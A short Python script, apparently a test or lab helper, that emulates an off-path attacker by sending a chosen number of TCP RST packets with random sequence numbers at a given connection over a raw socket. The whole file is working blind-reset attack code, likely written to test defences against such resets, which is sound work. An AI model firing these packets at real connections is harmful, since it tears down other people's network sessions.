#!/usr/bin/env python3
"""An off-path attacker's blind RSTs: COUNT TCP RSTs with the 4-tuple of a
connection and random sequence numbers, as someone who knows the client's
address and port but not the connection's sequence numbers sends them.
    blind_rst.py SRC-IP SRC-PORT DST-IP DST-PORT COUNT  ->  prints the number sent
Raw socket (root): the kernel adds the IP header, with SRC-IP as the source
when SRC-IP is this namespace's address."""
import random
import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def rst(src, sport, dst, dport, seq):
    # data offset 5 words, flags RST; ack, window and urgent pointer 0
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x04, 0, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header))
    return header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]


src, sport, dst, dport, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
sent = 0
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as s:
    s.bind((src, 0))
    for _ in range(count):
        sent += s.sendto(rst(src, sport, dst, dport, random.getrandbits(32)), (dst, 0)) > 0
print(sent)
